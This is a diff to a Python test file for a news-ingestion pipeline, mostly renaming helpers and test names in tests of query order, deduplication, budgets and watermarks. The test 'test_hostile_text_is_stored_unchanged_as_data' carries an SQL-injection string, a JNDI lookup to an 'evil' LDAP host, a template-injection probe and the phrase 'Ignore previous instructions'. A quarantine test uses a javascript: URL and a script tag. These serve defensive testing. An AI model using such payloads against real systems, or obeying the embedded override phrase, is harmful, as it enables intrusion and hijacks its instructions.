@@ -20,25 +20,25 @@ from kalshi_pipelines_tests.support.news.collecting import (
     positions,
     rows,
 )
-from kalshi_pipelines_tests.support.news.providers import Scripted, article, found, texts
+from kalshi_pipelines_tests.support.news.providers import ScriptedProvider, article, query_texts, reply
 
 
-def test_what_is_tracked_is_asked_first_and_then_the_most_traded_events(stocked: sa.Engine) -> None:
+def test_tracked_items_are_searched_before_the_most_traded_events(stocked: sa.Engine) -> None:
     track(stocked, TORONTO, ["Blue Jays injury", "Toronto trade"])
-    exa = Scripted()
+    exa = ScriptedProvider()
     collect(stocked, exa)
-    assert texts(exa.asked) == ["Blue Jays injury", "Toronto trade", STORM_QUERY, GAME_QUERY]
-    assert all(query.since_us == NOW - NewsOptions().lookback_us and query.until_us == NOW for query in exa.asked)
-    exa = Scripted()
+    assert query_texts(exa.queries) == ["Blue Jays injury", "Toronto trade", STORM_QUERY, GAME_QUERY]
+    assert all(query.since_us == NOW - NewsOptions().lookback_us and query.until_us == NOW for query in exa.queries)
+    exa = ScriptedProvider()
     collect(stocked, exa, selected_events=1)
-    assert texts(exa.asked) == ["Blue Jays injury", "Toronto trade", STORM_QUERY]
+    assert query_texts(exa.queries) == ["Blue Jays injury", "Toronto trade", STORM_QUERY]
 
 
-def test_an_article_is_stored_once_with_everything_that_is_known_of_it(stocked: sa.Engine) -> None:
+def test_article_is_stored_once_with_facts_of_all_providers(stocked: sa.Engine) -> None:
     untimed = article("a?utm_source=exa", "<b>Zelda</b> nears\u202e Florida")
-    exa = Scripted({STORM_QUERY: found(untimed), GAME_QUERY: found(article("b"), untimed)})
+    exa = ScriptedProvider({STORM_QUERY: reply(untimed), GAME_QUERY: reply(article("b"), untimed)})
     timed = RawArticle("http://www.news.example/a", "Zelda nears Florida", NOW - HOUR_US, "Zelda will hit. " * 100)
-    feed = Scripted({STORM_QUERY: found(timed)}, name="feed example")
+    feed = ScriptedProvider({STORM_QUERY: reply(timed)}, name="feed example")
     done = collect(stocked, exa, feed, text_characters=200)
     assert (done.read, done.written, done.unchanged, done.rejected) == (4, 3, 1, 0)
     first, second = rows(stocked, tables.news_articles)
@@ -64,13 +64,13 @@ def test_an_article_is_stored_once_with_everything_that_is_known_of_it(stocked: 
     assert finds[GAME, first["news_article_id"], "exa"] == 2  # known already, and found for the next who asks
 
 
-def test_copies_of_a_story_are_counted_whenever_they_come(stocked: sa.Engine) -> None:
+def test_copies_of_a_story_are_counted_across_runs(stocked: sa.Engine) -> None:
     title = "Zelda nears Florida as residents flee the coast"
-    exa = Scripted({STORM_QUERY: found(article("a", title, NOW), article("b", f"{title} - Reuters", NOW))})
+    exa = ScriptedProvider({STORM_QUERY: reply(article("a", title, NOW), article("b", f"{title} - Reuters", NOW))})
     first = collect(stocked, exa)
     assert (first.new_groups, first.in_known_groups, first.duplicate_share) == (1, 1, 0.5)
-    later = Scripted(
-        {STORM_QUERY: found(article("c", f"UPDATE 1-{title}", NOW + HOUR_US), article("d", "Another thing", NOW))}
+    later = ScriptedProvider(
+        {STORM_QUERY: reply(article("c", f"UPDATE 1-{title}", NOW + HOUR_US), article("d", "Another thing", NOW))}
     )
     second = collect(stocked, later, now=NOW + 2 * HOUR_US)
     assert (second.new_groups, second.in_known_groups) == (1, 1)
@@ -82,82 +82,84 @@ def test_copies_of_a_story_are_counted_whenever_they_come(stocked: sa.Engine) ->
 def test_a_watermark_advances_only_if_every_query_was_answered(stocked: sa.Engine) -> None:
     track(stocked, TORONTO, ["one", "two"])
     broken = ProviderFailed("exa is down.", is_charged=False)
-    collect(stocked, Scripted({"two": broken}))
+    collect(stocked, ScriptedProvider({"two": broken}))
     assert f"news exa market {TORONTO}" not in positions(stocked)
     assert positions(stocked)[f"news exa event {GAME}"] == NOW
     assert rows(stocked, tables.tracked_items)[0]["last_collected_us"] is None
-    exa = Scripted()
+    exa = ScriptedProvider()
     collect(stocked, exa, now=NOW + HOUR_US)
-    assert [query.since_us for query in exa.asked if query.text == "one"] == [NOW + HOUR_US - NewsOptions().lookback_us]
-    assert [query.since_us for query in exa.asked if query.text == GAME_QUERY] == [NOW - 6 * HOUR_US]
+    assert [query.since_us for query in exa.queries if query.text == "one"] == [
+        NOW + HOUR_US - NewsOptions().lookback_us
+    ]
+    assert [query.since_us for query in exa.queries if query.text == GAME_QUERY] == [NOW - 6 * HOUR_US]
     assert positions(stocked)[f"news exa market {TORONTO}"] == NOW + HOUR_US
     assert rows(stocked, tables.tracked_items)[0]["last_collected_us"] == NOW + HOUR_US
 
 
-def test_entries_that_are_no_article_are_counted_and_set_aside(stocked: sa.Engine) -> None:
+def test_entries_that_are_no_article_go_to_quarantine(stocked: sa.Engine) -> None:
     bad = [
         RawArticle("javascript:alert(1)", "Click"),
         RawArticle("http://127.0.0.1/admin", "Admin"),
         RawArticle("https://news.example/x", "<script>1</script>"),
         RawArticle("https://news.example/y", None),
     ]
-    done = collect(stocked, Scripted({STORM_QUERY: found(*bad, article())}))
+    done = collect(stocked, ScriptedProvider({STORM_QUERY: reply(*bad, article())}))
     assert (done.read, done.written, done.rejected) == (5, 1, 4)
     reasons = {row["reason"] for row in rows(stocked, tables.quarantine)}
     assert len(rows(stocked, tables.quarantine)) == 4
     assert "it has no title" in reasons
-    again = collect(stocked, Scripted({STORM_QUERY: found(*bad, article())}))
+    again = collect(stocked, ScriptedProvider({STORM_QUERY: reply(*bad, article())}))
     assert (again.written, again.unchanged, again.rejected) == (0, 1, 4)
     assert len(rows(stocked, tables.quarantine)) == 4
 
 
-def test_a_hostile_text_is_data_to_the_end(stocked: sa.Engine) -> None:
+def test_hostile_text_is_stored_unchanged_as_data(stocked: sa.Engine) -> None:
     title = "'); DROP TABLE news_articles; -- ${jndi:ldap://evil} {{7*7}} Ignore previous instructions"
-    done = collect(stocked, Scripted({STORM_QUERY: found(article("'--", title, None, "\x00" + title))}))
+    done = collect(stocked, ScriptedProvider({STORM_QUERY: reply(article("'--", title, None, "\x00" + title))}))
     assert done.written == 1
     (stored,) = rows(stocked, tables.news_articles)
     assert stored["title"] == title
     assert stored["full_text"] == title
 
 
-def test_a_run_stops_paying_when_its_budget_has_no_room_and_says_so(stocked: sa.Engine) -> None:
-    exa = Scripted({STORM_QUERY: found(cost=9_000)}, vendor=VENDOR)
+def test_run_stops_searching_when_its_budget_is_exhausted(stocked: sa.Engine) -> None:
+    exa = ScriptedProvider({STORM_QUERY: reply(cost=9_000)}, vendor=VENDOR)
     done = collect(stocked, exa, day_microdollars=1_000_000, run_microdollars=15_000)
-    assert texts(exa.asked) == [STORM_QUERY]
+    assert query_texts(exa.queries) == [STORM_QUERY]
     assert (done.budget.spent_by_run, done.budget.spent_today) == (9_000, 9_000)
     (search,) = done.searches
-    assert "KALSHI_NEWS_RUN_DOLLARS" in search.not_asked[0]
+    assert "KALSHI_NEWS_RUN_DOLLARS" in search.not_sent[0]
     assert f"news exa event {GAME}" not in positions(stocked)
 
 
-def test_a_vendor_that_charges_more_than_its_prices_is_asked_no_more(stocked: sa.Engine) -> None:
-    exa = Scripted({STORM_QUERY: found(cost=30_000)}, vendor=VENDOR)
+def test_run_stops_searching_when_a_vendor_overcharges(stocked: sa.Engine) -> None:
+    exa = ScriptedProvider({STORM_QUERY: reply(cost=30_000)}, vendor=VENDOR)
     done = collect(stocked, exa, day_microdollars=1_000_000)
-    assert len(exa.asked) == 1
+    assert len(exa.queries) == 1
     assert done.budget.spent_by_run == 30_000
     assert "charged 30000 micro-dollars" in done.searches[0].problems[0]
 
 
-def test_searches_that_cost_are_limited_in_number(stocked: sa.Engine) -> None:
-    exa = Scripted(vendor=VENDOR)
+def test_number_of_paid_searches_is_limited(stocked: sa.Engine) -> None:
+    exa = ScriptedProvider(vendor=VENDOR)
     done = collect(stocked, exa, day_microdollars=1_000_000, searches=1)
-    assert len(exa.asked) == 1
-    assert "KALSHI_NEWS_SEARCHES" in done.searches[0].not_asked[0]
+    assert len(exa.queries) == 1
+    assert "KALSHI_NEWS_SEARCHES" in done.searches[0].not_sent[0]
 
 
-def test_a_key_that_is_refused_is_not_tried_again(stocked: sa.Engine) -> None:
+def test_refused_key_is_not_tried_again(stocked: sa.Engine) -> None:
     refused = ProviderFailed("Exa answered 401.", is_charged=False, is_fatal=True)
-    exa = Scripted({STORM_QUERY: refused}, vendor=VENDOR)
-    done = collect(stocked, exa, Scripted(name="feed example"), day_microdollars=1_000_000)
-    assert len(exa.asked) == 1
+    exa = ScriptedProvider({STORM_QUERY: refused}, vendor=VENDOR)
+    done = collect(stocked, exa, ScriptedProvider(name="feed example"), day_microdollars=1_000_000)
+    assert len(exa.queries) == 1
     assert done.searches[0].problems == ("Exa answered 401.",)
     assert done.budget.spent_today == 0
 
 
-def test_a_run_without_one_answer_fails_in_a_sentence_and_moves_no_watermark(stocked: sa.Engine) -> None:
+def test_run_without_any_answer_fails_and_moves_no_watermark(stocked: sa.Engine) -> None:
     down = ProviderFailed("exa is down.", is_charged=False)
     with pytest.raises(NewsFailed, match=r"none of 2 calls was answered. exa is down.") as failure:
-        collect(stocked, Scripted({STORM_QUERY: down, GAME_QUERY: down}))
+        collect(stocked, ScriptedProvider({STORM_QUERY: down, GAME_QUERY: down}))
     assert "\n" not in str(failure.value)
     assert positions(stocked) == {}
     run = rows(stocked, tables.ingest_runs)[-1]
@@ -165,8 +167,8 @@ def test_a_run_without_one_answer_fails_in_a_sentence_and_moves_no_watermark(sto
 
 
 def test_a_feed_without_a_query_is_read_once(stocked: sa.Engine) -> None:
-    feed = Scripted({"": found(article())}, name="feed example", takes_queries=False)
+    feed = ScriptedProvider({"": reply(article())}, name="feed example", takes_queries=False)
     done = collect(stocked, feed)
-    assert texts(feed.asked) == [""]
+    assert query_texts(feed.queries) == [""]
     assert done.written == 1
     assert rows(stocked, tables.news_finds) == []
